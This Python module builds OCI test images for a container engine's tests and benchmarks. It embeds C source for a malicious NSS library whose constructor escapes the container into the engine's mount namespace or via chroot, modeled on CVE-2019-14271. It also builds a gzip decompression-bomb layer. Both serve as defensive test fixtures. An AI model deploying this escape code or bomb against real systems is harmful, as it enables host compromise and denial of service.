"""The project's own OCI image builder, used by the tests, the demo and the benchmarks.

No network and no Docker Hub: every test image is built here from Debian's busybox-static and
written as an OCI image layout (oci-layout, index.json, blobs/sha256/...), then pushed to a local
registry with skopeo. Everything is deterministic (fixed mtimes and owners, sorted tar entries,
gzip without timestamps, seeded pseudo-random data) so digests are stable from run to run, and
finished layouts are cached under a directory keyed by BUILDER_VERSION and the busybox binary.

Command line (also what scripts/demo.sh uses):
    python -m tests.support.imagebuild build [NAME...]          # print the layout directories
    python -m tests.support.imagebuild push NAME HOST:PORT [--repo library/NAME] [--creds U:P]
"""

from __future__ import annotations

import argparse
import contextlib
import fcntl
import gzip
import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Literal

# Bump whenever the output of any builder changes, so stale caches are never reused.
BUILDER_VERSION = 1

# 2024-01-01T00:00:00Z: a fixed, non-zero mtime (some tools treat 0 as "unset").
FIXED_MTIME = 1704067200
CREATED = "2024-01-01T00:00:00Z"
DEFAULT_PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

MT_OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
MT_OCI_INDEX = "application/vnd.oci.image.index.v1+json"
MT_OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
MT_LAYER_GZIP = "application/vnd.oci.image.layer.v1.tar+gzip"
MT_LAYER_ZSTD = "application/vnd.oci.image.layer.v1.tar+zstd"
MT_LAYER_TAR = "application/vnd.oci.image.layer.v1.tar"
MT_IN_TOTO = "application/vnd.in-toto+json"
REF_NAME_ANNOTATION = "org.opencontainers.image.ref.name"

Compression = Literal["gzip", "zstd", "none"]

BUSYBOX_CANDIDATES = ("/bin/busybox", "/usr/bin/busybox")

SKOPEO = os.environ.get("ASYNCDOCK_SKOPEO", "skopeo")


class ImageBuildError(RuntimeError):
    pass


# --------------------------------------------------------------------------------------------
# Layers


@dataclass(frozen=True)
class Entry:
    """One tar member. Paths are relative ("etc/passwd"), never absolute."""

    path: str
    kind: Literal["file", "dir", "symlink", "hardlink"]
    data: bytes = b""
    mode: int = 0o644
    uid: int = 0
    gid: int = 0
    target: str = ""  # symlink target, or the (earlier) member a hard link points at


class LayerBuilder:
    """Collects entries for one layer and renders them as a deterministic tar stream.

    Missing parent directories are added (0755, root) because real layers carry them and some
    unpackers rely on it. Entries are emitted sorted by path, so a hard link's target must sort
    before the link; that is checked rather than silently reordered.
    """

    def __init__(self) -> None:
        self._entries: dict[str, Entry] = {}

    def _add(self, entry: Entry) -> LayerBuilder:
        path = entry.path.strip("/")
        if not path or ".." in path.split("/"):
            raise ImageBuildError(f"bad layer path {entry.path!r}")
        if path in self._entries and self._entries[path].kind != "dir":
            raise ImageBuildError(f"duplicate layer path {path!r}")
        self._entries[path] = Entry(**{**asdict(entry), "path": path})
        return self

    def dir(self, path: str, mode: int = 0o755, uid: int = 0, gid: int = 0) -> LayerBuilder:
        return self._add(Entry(path, "dir", mode=mode, uid=uid, gid=gid))

    def file(self, path: str, data: bytes | str, mode: int = 0o644, uid: int = 0, gid: int = 0) -> LayerBuilder:
        raw = data.encode() if isinstance(data, str) else data
        return self._add(Entry(path, "file", data=raw, mode=mode, uid=uid, gid=gid))

    def symlink(self, path: str, target: str) -> LayerBuilder:
        return self._add(Entry(path, "symlink", mode=0o777, target=target))

    def hardlink(self, path: str, target: str) -> LayerBuilder:
        return self._add(Entry(path, "hardlink", target=target.strip("/")))

    def whiteout(self, path: str) -> LayerBuilder:
        """Delete `path` (file or whole directory) of the layers below."""
        parent, _, base = path.strip("/").rpartition("/")
        return self.file(f"{parent}/.wh.{base}" if parent else f".wh.{base}", b"", mode=0o600)

    def opaque(self, directory: str) -> LayerBuilder:
        """Hide everything the layers below have in `directory` (this layer's entries stay)."""
        return self.dir(directory).file(f"{directory.strip('/')}/.wh..wh..opq", b"", mode=0o600)

    def entries(self) -> list[Entry]:
        entries = dict(self._entries)
        for path in list(entries):
            parts = path.split("/")
            for i in range(1, len(parts)):
                parent = "/".join(parts[:i])
                entries.setdefault(parent, Entry(parent, "dir", mode=0o755))
        ordered = [entries[p] for p in sorted(entries)]
        seen: set[str] = set()
        for e in ordered:
            if e.kind == "hardlink":
                target = entries.get(e.target)
                if e.target not in seen or target is None or target.kind != "file":
                    raise ImageBuildError(f"hard link {e.path} -> {e.target}: target must be an earlier regular file")
            seen.add(e.path)
        return ordered

    def tar(self) -> bytes:
        buf = io.BytesIO()
        # PAX like Go's archive/tar; extended headers appear only for names that need them.
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
            for e in self.entries():
                ti = tarfile.TarInfo(e.path)
                ti.mtime = FIXED_MTIME
                ti.mode = e.mode
                ti.uid, ti.gid = e.uid, e.gid
                ti.uname = ti.gname = ""
                if e.kind == "file":
                    ti.type, ti.size = tarfile.REGTYPE, len(e.data)
                    tf.addfile(ti, io.BytesIO(e.data))
                    continue
                if e.kind == "dir":
                    ti.type = tarfile.DIRTYPE
                elif e.kind == "symlink":
                    ti.type, ti.linkname = tarfile.SYMTYPE, e.target
                else:
                    ti.type, ti.linkname = tarfile.LNKTYPE, e.target
                tf.addfile(ti)
        return buf.getvalue()


def compress(data: bytes, compression: Compression, level: int | None = None) -> bytes:
    if compression == "gzip":
        # mtime=0 and no file name in the header: byte-identical output for identical input.
        return gzip.compress(data, compresslevel=6 if level is None else level, mtime=0)
    if compression == "zstd":
        import zstandard

        return zstandard.ZstdCompressor(level=3 if level is None else level, write_checksum=True).compress(data)
    return data


_LAYER_MEDIA_TYPES: dict[str, str] = {"gzip": MT_LAYER_GZIP, "zstd": MT_LAYER_ZSTD, "none": MT_LAYER_TAR}


# --------------------------------------------------------------------------------------------
# Layout writer


@dataclass(frozen=True)
class Descriptor:
    media_type: str
    digest: str
    size: int

    def json(self, **extra: Any) -> dict[str, Any]:
        return {"mediaType": self.media_type, "digest": self.digest, "size": self.size, **extra}


@dataclass(frozen=True)
class LayerDesc:
    blob: Descriptor
    diff_id: str


@dataclass
class ManifestRef:
    """What a tag (or an index entry) points at, with the facts tests assert on."""

    descriptor: Descriptor
    platform: str = "linux/amd64"
    config_digest: str = ""
    layers: list[str] = field(default_factory=list)
    diff_ids: list[str] = field(default_factory=list)
    children: list[ManifestRef] = field(default_factory=list)  # for an index


def _canonical_json(obj: Any) -> bytes:
    # Insertion order is fixed by the code, so no sort_keys: "schemaVersion" stays first as
    # registries and humans expect.
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode()


class LayoutWriter:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.blobs = root / "blobs" / "sha256"
        self.blobs.mkdir(parents=True, exist_ok=True)
        (root / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
        self._tags: list[tuple[str, ManifestRef]] = []

    def put_blob(self, data: bytes, media_type: str) -> Descriptor:
        digest = hashlib.sha256(data).hexdigest()
        path = self.blobs / digest
        if not path.exists():
            path.write_bytes(data)
        return Descriptor(media_type, f"sha256:{digest}", len(data))

    def add_layer(self, layer: LayerBuilder | bytes, compression: Compression = "gzip", level: int | None = None) -> LayerDesc:
        tar = layer.tar() if isinstance(layer, LayerBuilder) else layer
        diff_id = f"sha256:{hashlib.sha256(tar).hexdigest()}"
        blob = self.put_blob(compress(tar, compression, level), _LAYER_MEDIA_TYPES[compression])
        return LayerDesc(blob, diff_id)

    def add_streamed_layer(self, tar_chunks: Iterator[bytes], level: int = 9) -> LayerDesc:
        """A gzip layer from a tar produced chunk by chunk: hashed and compressed as it goes,
        so a layer of gigabytes never exists uncompressed (in memory or on disk)."""
        diff = hashlib.sha256()
        # wbits 31: a gzip wrapper with mtime 0 and no name, deterministic like compress().
        deflate = zlib.compressobj(level, zlib.DEFLATED, 31)
        parts: list[bytes] = []
        for chunk in tar_chunks:
            diff.update(chunk)
            parts.append(deflate.compress(chunk))
        parts.append(deflate.flush())
        blob = self.put_blob(b"".join(parts), MT_LAYER_GZIP)
        return LayerDesc(blob, f"sha256:{diff.hexdigest()}")

    def add_image(
        self,
        layers: Sequence[LayerDesc],
        *,
        config: dict[str, Any] | None = None,
        history: Sequence[dict[str, Any]] | None = None,
        architecture: str = "amd64",
        os_name: str = "linux",
        variant: str | None = None,
        config_media_type: str = MT_OCI_CONFIG,
        annotations: dict[str, str] | None = None,
    ) -> ManifestRef:
        cfg: dict[str, Any] = {"created": CREATED, "architecture": architecture}
        if variant:
            cfg["variant"] = variant
        cfg["os"] = os_name
        cfg["config"] = config if config is not None else {"Env": [DEFAULT_PATH], "Cmd": ["sh"]}
        cfg["rootfs"] = {"type": "layers", "diff_ids": [layer.diff_id for layer in layers]}
        if history is None:
            history = [{"created": CREATED, "created_by": f"asyncdock-imagebuild layer {i}"} for i in range(len(layers))]
        if sum(1 for h in history if not h.get("empty_layer")) != len(layers):
            raise ImageBuildError("history must have one non-empty entry per layer")
        cfg["history"] = list(history)
        config_desc = self.put_blob(_canonical_json(cfg), config_media_type)
        manifest: dict[str, Any] = {
            "schemaVersion": 2,
            "mediaType": MT_OCI_MANIFEST,
            "config": config_desc.json(),
            "layers": [layer.blob.json() for layer in layers],
        }
        if annotations:
            manifest["annotations"] = annotations
        desc = self.put_blob(_canonical_json(manifest), MT_OCI_MANIFEST)
        platform = f"{os_name}/{architecture}" + (f"/{variant}" if variant else "")
        return ManifestRef(
            desc,
            platform=platform,
            config_digest=config_desc.digest,
            layers=[layer.blob.digest for layer in layers],
            diff_ids=[layer.diff_id for layer in layers],
        )

    def add_index(self, entries: Sequence[tuple[ManifestRef, dict[str, Any]]]) -> ManifestRef:
        """`entries`: (manifest, extra descriptor fields such as platform/annotations)."""
        index = {
            "schemaVersion": 2,
            "mediaType": MT_OCI_INDEX,
            "manifests": [m.descriptor.json(**extra) for m, extra in entries],
        }
        desc = self.put_blob(_canonical_json(index), MT_OCI_INDEX)
        return ManifestRef(desc, platform="", children=[m for m, _ in entries])

    def tag(self, ref: ManifestRef, tag: str) -> None:
        self._tags.append((tag, ref))

    def finish(self) -> dict[str, ManifestRef]:
        index = {
            "schemaVersion": 2,
            "mediaType": MT_OCI_INDEX,
            "manifests": [ref.descriptor.json(annotations={REF_NAME_ANNOTATION: tag}) for tag, ref in self._tags],
        }
        (self.root / "index.json").write_bytes(_canonical_json(index))
        return dict(self._tags)


# --------------------------------------------------------------------------------------------
# The busybox base layer


def find_busybox() -> Path:
    for cand in BUSYBOX_CANDIDATES:
        path = Path(cand)
        if path.is_file() and os.access(path, os.X_OK):
            if _elf_interpreter(path) is not None:
                raise ImageBuildError(f"{path} is dynamically linked: install busybox-static (scripts/setup.sh)")
            return path
    raise ImageBuildError("busybox not found: install busybox-static (scripts/setup.sh)")


def _elf_interpreter(path: Path) -> str | None:
    """PT_INTERP of an ELF64 little-endian binary: a static busybox has none, and only a
    static one runs inside an image that has no libc."""
    with path.open("rb") as f:
        head = f.read(64)
        if head[:4] != b"\x7fELF" or head[4] != 2 or head[5] != 1:
            raise ImageBuildError(f"{path}: not a 64-bit little-endian ELF binary")
        phoff, = struct.unpack_from("<Q", head, 0x20)
        phentsize, phnum = struct.unpack_from("<HH", head, 0x36)
        for i in range(phnum):
            f.seek(phoff + i * phentsize)
            p_type, _flags, p_offset, _vaddr, _paddr, p_filesz = struct.unpack("<IIQQQQ", f.read(40))
            if p_type == 3:  # PT_INTERP
                f.seek(p_offset)
                return f.read(p_filesz).rstrip(b"\0").decode()
    return None


PASSWD = """\
root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/bin/false
app:x:1000:1000:app:/home/app:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
"""
# `users` lists app as a supplementary member so tests can check group resolution (`id`).
GROUP = """\
root:x:0:
daemon:x:1:
users:x:100:app
app:x:1000:
nobody:x:65534:
"""


@dataclass(frozen=True)
class BaseInfo:
    busybox: Path
    busybox_sha256: str
    applets: tuple[str, ...]


def base_info() -> BaseInfo:
    busybox = find_busybox()
    out = subprocess.run([str(busybox), "--list"], check=True, capture_output=True, text=True).stdout
    applets = tuple(sorted(a for a in out.split() if a and a != "busybox" and "/" not in a))
    return BaseInfo(busybox, hashlib.sha256(busybox.read_bytes()).hexdigest(), applets)


def base_layer(info: BaseInfo) -> LayerBuilder:
    layer = LayerBuilder()
    for d in ("bin", "dev", "etc", "home", "proc", "sys", "usr", "usr/bin", "usr/sbin", "var", "var/log"):
        layer.dir(d)
    layer.dir("root", mode=0o700)
    layer.dir("tmp", mode=0o1777)
    layer.dir("var/tmp", mode=0o1777)
    layer.dir("home/app", mode=0o755, uid=1000, gid=1000)
    layer.file("bin/busybox", info.busybox.read_bytes(), mode=0o755)
    for applet in info.applets:
        layer.symlink(f"bin/{applet}", "busybox")
    # For `#!/usr/bin/env sh` scripts.
    layer.symlink("usr/bin/env", "../../bin/busybox")
    layer.file("etc/passwd", PASSWD)
    layer.file("etc/group", GROUP)
    layer.file("etc/shadow", "root:*:19723:0:99999:7:::\n", mode=0o640)
    # Mount points for the engine's bind mounts; empty like in Docker Hub's images.
    layer.file("etc/hostname", "")
    layer.file("etc/hosts", "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n")
    layer.file("etc/resolv.conf", "")
    layer.file("etc/os-release", 'NAME="asyncdock test busybox"\nID=asyncdock-busybox\n')
    return layer


# --------------------------------------------------------------------------------------------
# The images


def _hist(created_by: str, empty: bool = False) -> dict[str, Any]:
    h: dict[str, Any] = {"created": CREATED, "created_by": created_by}
    if empty:
        h["empty_layer"] = True
    return h


class _Ctx:
    """What every builder gets: the layout writer and the base layer, built once."""

    def __init__(self, writer: LayoutWriter, info: BaseInfo, base_tar: bytes) -> None:
        self.w = writer
        self.info = info
        self.base_tar = base_tar
        self._base: dict[Compression, LayerDesc] = {}

    def base(self, compression: Compression = "gzip") -> LayerDesc:
        if compression not in self._base:
            self._base[compression] = self.w.add_layer(self.base_tar, compression)
        return self._base[compression]

    BASE_HISTORY = _hist("ADD busybox-static rootfs / # asyncdock-imagebuild")


def build_busybox(c: _Ctx) -> None:
    """(a) one layer: busybox-static, applet symlinks, passwd/group, the usual empty dirs."""
    c.w.tag(c.w.add_image([c.base()], history=[c.BASE_HISTORY]), "latest")


# Final state of library/layers, for the tests: path -> content, or None for "must not exist".
LAYERS_EXPECTED: dict[str, bytes | None] = {
    "data/keep.txt": b"keep v2\n",
    "data/remove.txt": b"recreated\n",
    "data/added.txt": b"added\n",
    "data/dir": None,
    "data/dir/a": None,
    "data/link": None,
    "data/willbedir/inside": b"inside\n",
    "opaque/new": b"new\n",
    "opaque/old1": None,
    "opaque/sub": None,
    "etc/os-release": None,
    "bin/busybox": b"",  # exists; content not compared (b"" = existence only)
}


def build_layers(c: _Ctx) -> None:
    """(b) multi-layer: whiteouts of a file, a dir, a symlink and a base file, an opaque dir,
    a file replaced by a directory, and a whited-out file re-created by a later layer."""
    l2 = (
        LayerBuilder()
        .file("data/keep.txt", "keep v1\n")
        .file("data/remove.txt", "remove me\n")
        .file("data/dir/a", "a\n")
        .file("data/dir/b", "b\n")
        .symlink("data/link", "keep.txt")
        .file("data/willbedir", "a file for now\n")
        .file("opaque/old1", "old1\n")
        .file("opaque/sub/old2", "old2\n")
    )
    l3 = (
        LayerBuilder()
        .whiteout("data/remove.txt")
        .whiteout("data/dir")
        .whiteout("data/link")
        .whiteout("etc/os-release")
        .file("data/keep.txt", "keep v2\n")
        .file("data/added.txt", "added\n")
        .dir("data/willbedir")
        .file("data/willbedir/inside", "inside\n")
        .opaque("opaque")
        .file("opaque/new", "new\n")
    )
    l4 = LayerBuilder().file("data/remove.txt", "recreated\n")
    layers = [c.base(), c.w.add_layer(l2), c.w.add_layer(l3), c.w.add_layer(l4)]
    history = [c.BASE_HISTORY, _hist("COPY data opaque /"), _hist("RUN rm/replace (whiteouts, opaque dir)"),
               _hist("RUN echo recreated > /data/remove.txt")]
    c.w.tag(c.w.add_image(layers, history=history), "latest")


# library/hardlinks: these paths are one inode with 3 links; hl/run.sh and hl/zz-run are another.
HARDLINK_GROUPS: tuple[tuple[str, ...], ...] = (
    ("hl/a-original", "hl/b-link", "hl/sub/c-link"),
    ("hl/run.sh", "hl/zz-run"),
)


def build_hardlinks(c: _Ctx) -> None:
    """(c) a layer whose files are hard links to each other (tar LNKTYPE members)."""
    layer = (
        LayerBuilder()
        .file("hl/a-original", "hard-linked content\n")
        .hardlink("hl/b-link", "hl/a-original")
        .hardlink("hl/sub/c-link", "hl/a-original")
        .file("hl/run.sh", "#!/bin/sh\necho hardlinked script\n", mode=0o755)
        .hardlink("hl/zz-run", "hl/run.sh")
    )
    layers = [c.base(), c.w.add_layer(layer)]
    c.w.tag(c.w.add_image(layers, history=[c.BASE_HISTORY, _hist("RUN ln ...")]), "latest")


MANYFILES_DIRS = 50
MANYFILES_PER_DIR = 100
MANYFILES_COUNT = MANYFILES_DIRS * MANYFILES_PER_DIR  # 5000


def many_files_layer(root: str, seed: str) -> LayerBuilder:
    """5,000 small files (50 dirs x 100), 32..543 bytes each, contents derived from `seed`."""
    layer = LayerBuilder()
    for d in range(MANYFILES_DIRS):
        for f in range(MANYFILES_PER_DIR):
            n = d * MANYFILES_PER_DIR + f
            digest = hashlib.sha256(f"{seed}/{n}".encode()).digest()
            size = 32 + digest[0] * 2
            layer.file(f"{root}/d{d:02d}/f{f:03d}", (f"file {n}\n".encode() + digest * 20)[:size])
    return layer


def build_manyfiles(c: _Ctx) -> None:
    """(d) one layer of 5,000 small files under /many."""
    layers = [c.base(), c.w.add_layer(many_files_layer("many", "manyfiles"))]
    c.w.tag(c.w.add_image(layers, history=[c.BASE_HISTORY, _hist("COPY many /many")]), "latest")


DEEP_LAYERS = 120


def build_deep120(c: _Ctx) -> None:
    """(e) 120 layers: the base, then 119 that each add /layers/NNN and rewrite /layers/top
    (so the final /layers/top is "119\\n" only if every layer was stacked in order)."""
    layers = [c.base()]
    history = [c.BASE_HISTORY]
    for i in range(1, DEEP_LAYERS):
        layer = LayerBuilder().file(f"layers/{i:03d}", f"{i}\n").file("layers/top", f"{i}\n")
        layers.append(c.w.add_layer(layer))
        history.append(_hist(f"RUN echo {i} > /layers/top"))
    c.w.tag(c.w.add_image(layers, history=history), "latest")


DEEP_DIRS = 2000


def build_deepdirs(c: _Ctx) -> None:
    """(f) one layer holding a directory tree DEEP_DIRS levels deep, /deep/d/d/.../d/leaf:
    longer than PATH_MAX from the host's root and deeper than Python's recursion limit, for
    every walk and removal of image and container trees."""
    path = "deep/" + "/".join(["d"] * DEEP_DIRS)
    layer = LayerBuilder().file(f"{path}/leaf", f"{DEEP_DIRS} levels\n")
    layers = [c.base(), c.w.add_layer(layer)]
    c.w.tag(c.w.add_image(layers, history=[c.BASE_HISTORY, _hist("COPY deep /deep")]), "latest")


def build_multiarch(c: _Ctx) -> None:
    """(f) an OCI index: linux/amd64 (busybox + /arch), linux/arm64/v8 (a small synthetic layer:
    never run, only resolved), and a buildx-style attestation manifest for unknown/unknown that
    a pull must skip."""
    amd64 = c.w.add_image(
        [c.base(), c.w.add_layer(LayerBuilder().file("arch", "amd64\n"))],
        history=[c.BASE_HISTORY, _hist("RUN echo amd64 > /arch")],
    )
    arm64 = c.w.add_image(
        [c.w.add_layer(LayerBuilder().file("arch", "arm64\n").file("bin/README", "not runnable on amd64\n"))],
        history=[_hist("ADD arch /")],
        architecture="arm64",
        variant="v8",
    )
    statement = _canonical_json({"_type": "https://in-toto.io/Statement/v0.1",
                                 "subject": [{"digest": {"sha256": amd64.descriptor.digest[7:]}}]})
    att_layer = LayerDesc(c.w.put_blob(statement, MT_IN_TOTO), f"sha256:{hashlib.sha256(statement).hexdigest()}")
    attestation = c.w.add_image([att_layer], history=[_hist("attestation")], architecture="unknown", os_name="unknown")
    index = c.w.add_index([
        (amd64, {"platform": {"architecture": "amd64", "os": "linux"}}),
        (arm64, {"platform": {"architecture": "arm64", "os": "linux", "variant": "v8"}}),
        (attestation, {
            "platform": {"architecture": "unknown", "os": "unknown"},
            "annotations": {"vnd.docker.reference.digest": amd64.descriptor.digest,
                            "vnd.docker.reference.type": "attestation-manifest"},
        }),
    ])
    c.w.tag(index, "latest")


# (size in MiB of each incompressible layer of library/bench)
BENCH_RANDOM_LAYERS_MIB = (28, 22, 18, 14, 12, 10)


def build_bench(c: _Ctx) -> None:
    """(g) 8 layers, ~105 MiB compressed: the base, six layers of incompressible data (a few
    files each, seeded so the digests are stable) and one layer of 5,000 small files."""
    layers = [c.base()]
    history = [c.BASE_HISTORY]
    for i, mib in enumerate(BENCH_RANDOM_LAYERS_MIB, start=1):
        layer = LayerBuilder()
        parts = 4
        for p in range(parts):
            size = (mib << 20) // parts
            layer.file(f"bench/layer{i}/part{p}.bin", hashlib.shake_256(f"bench/{i}/{p}".encode()).digest(size))
        # Level 1: the data does not compress anyway, and level 6 costs ~3x the time.
        layers.append(c.w.add_layer(layer, "gzip", level=1))
        history.append(_hist(f"ADD layer{i} /bench/layer{i}"))
    layers.append(c.w.add_layer(many_files_layer("bench/small", "bench")))
    history.append(_hist("COPY small /bench/small"))
    c.w.tag(c.w.add_image(layers, history=history), "latest")


def build_zstd(c: _Ctx) -> None:
    """(h) zstd layers: the base layer zstd-compressed (same diff_id as busybox's gzip base,
    different blob) and a small zstd layer with /zstd/hello.txt."""
    layers = [c.base("zstd"), c.w.add_layer(LayerBuilder().file("zstd/hello.txt", "hello from a zstd layer\n"), "zstd")]
    c.w.tag(c.w.add_image(layers, history=[c.BASE_HISTORY, _hist("COPY hello.txt /zstd/")]), "latest")


BOMB_PATH = "bomb/zeros"
BOMB_SIZE = 2 << 30  # 2 GiB of zeros; the gzip blob is about 2 MiB


def zeros_file_tar(path: str, size: int, chunk: int = 1 << 20) -> Iterator[bytes]:
    """A tar of one regular file of `size` zero bytes, in chunks (never all in memory)."""
    ti = tarfile.TarInfo(path)
    ti.size, ti.mtime, ti.mode, ti.type = size, FIXED_MTIME, 0o644, tarfile.REGTYPE
    ti.uname = ti.gname = ""
    yield ti.tobuf(format=tarfile.PAX_FORMAT)
    zeros = bytes(chunk)
    left = size
    while left:
        n = min(left, chunk)
        yield zeros if n == chunk else bytes(n)
        left -= n
    # Padding of the data to a block, then the two zero blocks that end an archive.
    yield bytes(-size % tarfile.BLOCKSIZE) + bytes(2 * tarfile.BLOCKSIZE)


def build_bomb(c: _Ctx) -> None:
    """(j) a layer that expands without bound: a ~2 MiB gzip of one 2 GiB file of zeros, on
    top of the busybox base (for max-layer-size and the free-space guard)."""
    bomb = c.w.add_streamed_layer(zeros_file_tar(BOMB_PATH, BOMB_SIZE))
    c.w.tag(c.w.add_image([c.base(), bomb], history=[c.BASE_HISTORY, _hist(f"ADD zeros /{BOMB_PATH}")]), "latest")


ENTRYPOINT_SH = """\
#!/bin/sh
# Test entrypoint of library/configured. `serve` runs busybox httpd on :8080 (the exposed port
# and what the HEALTHCHECK probes) and reports which stop signal it received.
echo "entrypoint args: $*"
if [ "$1" = serve ]; then
    httpd -f -p 8080 -h /app/www &
    trap 'echo "got SIGTERM"; kill $!; exit 0' TERM
    trap 'echo "got SIGINT"; kill $!; exit 0' INT
    echo ready > /tmp/ready
    wait
    exit 0
fi
exec "$@"
"""

CONFIGURED_LABELS = {"org.asyncdock.test": "configured", "maintainer": "asyncdock tests"}
CONFIGURED_HEALTHCHECK: dict[str, Any] = {
    "Test": ["CMD-SHELL", "wget -q -O /dev/null http://127.0.0.1:8080/ || exit 1"],
    "Interval": 1_000_000_000,
    "Timeout": 2_000_000_000,
    "StartPeriod": 0,
    "Retries": 3,
}


def configured_variants() -> dict[str, dict[str, Any]]:
    """Tag -> image config of library/configured (all share the same two layers)."""
    env = [DEFAULT_PATH, "APP_MODE=test", "GREETING=hello world"]
    full: dict[str, Any] = {
        "User": "app",
        "ExposedPorts": {"8080/tcp": {}, "9999/udp": {}},
        "Env": env,
        "Entrypoint": ["/app/entrypoint.sh"],
        "Cmd": ["serve"],
        "Healthcheck": CONFIGURED_HEALTHCHECK,
        "Volumes": {"/data": {}},
        "WorkingDir": "/app",
        "Labels": CONFIGURED_LABELS,
        "StopSignal": "SIGINT",
    }
    plain = {"Env": [DEFAULT_PATH]}
    return {
        "latest": full,
        # ENTRYPOINT only: `docker run IMG a b` appends a b.
        "entrypoint-only": {**plain, "Entrypoint": ["echo", "from-entrypoint"]},
        # CMD only: `docker run IMG cmd...` replaces it.
        "cmd-only": {**plain, "Cmd": ["echo", "from-cmd"]},
        # Shell-form ENTRYPOINT as Docker writes it: CMD becomes $0 $1 ... of the -c script.
        "shell-entrypoint": {**plain, "Entrypoint": ["/bin/sh", "-c", 'echo "shell:$0:$*"'], "Cmd": ["arg0", "arg1"]},
        "user-numeric": {**plain, "User": "1000:100", "Cmd": ["id"]},
        "user-nobody": {**plain, "User": "nobody", "Cmd": ["id"]},
        "healthcheck-none": {**full, "Healthcheck": {"Test": ["NONE"]}},
        # Docker creates a missing WORKDIR at container creation.
        "workdir-missing": {**plain, "WorkingDir": "/does/not/exist", "Cmd": ["pwd"]},
    }


def build_configured(c: _Ctx) -> None:
    """(i) HEALTHCHECK, ExposedPorts, Volumes (with content to seed), Labels, User, WorkingDir,
    StopSignal and ENTRYPOINT/CMD variations, one tag per variant (see configured_variants)."""
    app = (
        LayerBuilder()
        .dir("app", uid=1000, gid=1000)
        .file("app/entrypoint.sh", ENTRYPOINT_SH, mode=0o755)
        .file("app/www/index.html", "asyncdock configured image\n")
        .dir("data", uid=1000, gid=1000)
        .file("data/seed.txt", "seeded volume content\n", uid=1000, gid=1000)
    )
    layers = [c.base(), c.w.add_layer(app)]
    for tag, cfg in configured_variants().items():
        history = [c.BASE_HISTORY, _hist("COPY app /app")]
        for key in cfg:
            if key not in ("Env",):
                history.append(_hist(f"/bin/sh -c #(nop) {key.upper()}", empty=True))
        c.w.tag(c.w.add_image(layers, config=cfg, history=history), tag)


# An image whose name-service configuration runs code in whatever resolves a user or group
# name inside it (the pattern of CVE-2019-14271). Not in BUILDERS: the module is compiled per
# test with the host path of its marker file baked in, so it is built uncached.
NSS_LIB_DIRS = ("lib", "lib/x86_64-linux-gnu", "usr/lib", "usr/lib/x86_64-linux-gnu")
NSS_MODULE_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* A fresh procfs of the loader's own pid namespace, as a detached mount (fsopen/fsmount: no
   mount point needed, so it works from any chroot). */
static int own_proc(void) {
    int fs = syscall(430 /* fsopen */, "proc", 0);
    if (fs < 0) return -1;
    if (syscall(431 /* fsconfig */, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) < 0) {
        close(fs);
        return -1;
    }
    int mnt = syscall(432 /* fsmount */, fs, 0, 0);
    close(fs);
    return mnt;
}

__attribute__((constructor)) static void escape(void) {
    char buf[128];
    const char *how = "none";
    int cwd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int proc = own_proc();
    if (proc >= 0) {
        /* join the mount namespace of whoever started us: the engine's */
        snprintf(buf, sizeof buf, "%d/ns/mnt", (int)getppid());
        int ns = openat(proc, buf, O_RDONLY | O_CLOEXEC);
        if (ns >= 0 && setns(ns, CLONE_NEWNS) == 0) how = "setns";
        if (ns >= 0) close(ns);
        close(proc);
    }
    if (strcmp(how, "none") == 0 && mkdir(".nss-escape", 0700) == 0 && chroot(".nss-escape") == 0) {
        /* the classic chroot escape: our cwd is now above our root */
        for (int i = 0; i < 256; i++) chdir("..");
        if (chroot(".") == 0) how = "chroot";
    }
    int fd = open(NSS_MARKER, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) {
        int n = snprintf(buf, sizeof buf, "pid %d uid %d escaped by %s\n", (int)getpid(), (int)getuid(), how);
        write(fd, buf, n);
        close(fd);
    }
    if (cwd >= 0) {
        fchdir(cwd);  /* let the victim go on as if nothing happened */
        close(cwd);
    }
}
"""


def compile_nss_module(marker: Path, out: Path, cc: str = "gcc") -> bytes:
    """Compile the NSS module whose constructor leaves `marker` on the host; its bytes."""
    src = out.with_suffix(".c")
    src.write_text(NSS_MODULE_C)
    define = "-DNSS_MARKER=" + json.dumps(str(marker))
    subprocess.run([cc, "-shared", "-fPIC", "-O1", "-Wall", define, "-o", str(out), str(src)],
                   check=True, capture_output=True, text=True)
    return out.read_bytes()


def nss_layer(module: bytes) -> LayerBuilder:
    layer = (
        LayerBuilder()
        .file("etc/nsswitch.conf", "passwd: evil\ngroup: evil\nshadow: evil\nhosts: evil\n")
        # owners no host or image name file knows, so any lookup goes to the module
        .file("etc/owned-by-nobody-known", "x\n", uid=4242, gid=4242)
        .dir("data", uid=4243, gid=4243)
        .file("data/file", "data\n", uid=4243, gid=4243)
    )
    for d in NSS_LIB_DIRS:
        layer.file(f"{d}/libnss_evil.so.2", module, mode=0o755)
    return layer


def build_nss_layout(dest: Path, module: bytes) -> BuiltImage:
    """The "nss" image (busybox plus nss_layer(module)), uncached, into `dest`."""
    info, base_tar = _base()
    w = LayoutWriter(dest)
    c = _Ctx(w, info, base_tar)
    layers = [c.base(), w.add_layer(nss_layer(module))]
    w.tag(w.add_image(layers, history=[c.BASE_HISTORY, _hist("COPY nss /")]), "latest")
    return BuiltImage("nss", dest, w.finish())


BUILDERS: dict[str, Callable[[_Ctx], None]] = {
    "busybox": build_busybox,
    "layers": build_layers,
    "hardlinks": build_hardlinks,
    "manyfiles": build_manyfiles,
